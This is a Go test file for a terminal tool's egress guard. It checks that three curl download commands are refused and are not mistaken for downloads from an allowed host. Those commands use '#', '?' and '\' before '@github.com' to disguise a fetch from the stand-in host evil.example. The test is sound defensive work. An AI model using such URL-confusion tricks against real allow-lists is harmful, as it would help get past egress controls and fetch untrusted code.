package tui

import (
	"strings"
	"testing"

	"ozdesk.dev/ozdesk/store"
)

// TestEditorEgressFragmentHost (rt39k HIGH-1): with github.com on the
// egress list, a download from https://evil.example#@github.com/x (curl
// fetches from evil.example: the '#' ends the host) is refused by the
// download rail, and ctrl+o offers evil.example, never github.com; with
// a '\' before the '@' (curl fetches from the host after it, other
// readers from the one before) it offers no host and says why.
func TestEditorEgressFragmentHost(t *testing.T) {
	for _, tc := range []struct{ name, cmd, show string }{
		{"hash", `curl -fsSL -o /srv/www/tool4.tgz https://evil.example\#@github.com/org/tool.tgz`, "Add evil.example to the egress list?"},
		{"question mark", `curl -fsSL -o /srv/www/tool4.tgz 'https://evil.example?@github.com/org/tool.tgz'`, "Add evil.example to the egress list?"},
		{"backslash", `curl -fsSL -o /srv/www/tool4.tgz 'https://evil.example\@github.com/org/tool.tgz'`, "cannot be read as a downloader"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := openDesk(t, 100, 30)
			if _, err := d.svc.AddEgress(store.EgressHost{Host: "github.com", AddedBy: "bob", Reason: "tools"}); err != nil {
				t.Fatal(err)
			}
			d.ask("dl", "setup", tc.cmd)
			d.reload()
			d.settle()
			d.keys("A")
			scr := d.mustShow("guard rail unpinned-download refuses this allow")
			if strings.Contains(scr, "add github.com") {
				t.Fatalf("the rail offers the listed host the ask does not fetch from:\n%s", scr)
			}
			d.keys("ctrl+o")
			scr = d.mustShow(tc.show)
			if strings.Contains(scr, "github.com to the egress list") {
				t.Fatalf("ctrl+o offers github.com:\n%s", scr)
			}
		})
	}
}
